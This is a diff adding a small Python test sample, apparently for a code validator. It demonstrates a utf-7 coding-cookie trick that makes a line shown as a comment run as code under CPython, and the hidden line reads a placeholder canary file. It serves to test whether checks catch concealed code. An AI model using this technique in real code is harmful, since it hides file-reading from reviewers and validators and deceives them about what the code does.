@@ -1,0 +1,12 @@
+# coding: utf-7
+# class: coding_cookie
+# technique: a lone CR as line 1 hides a utf-7 cookie on CPython's line 2; the utf-7 shift sequence for a newline in a comment becomes a line break
+# goal: read
+# Parsed from a str (the validator, the renderer) the hidden line below is a comment; run as a
+# file by CPython (python3 snippet.py after a download) the cookie decodes it into code.
+import numpy as np
+import pandas as pd
+
+summary = pd.Series(np.arange(5)).describe()
+# +AAo-stolen = open("{{CANARY_FILE}}").read()
+df = pd.DataFrame({"stolen": [stolen]})  # NameError unless the hidden line ran
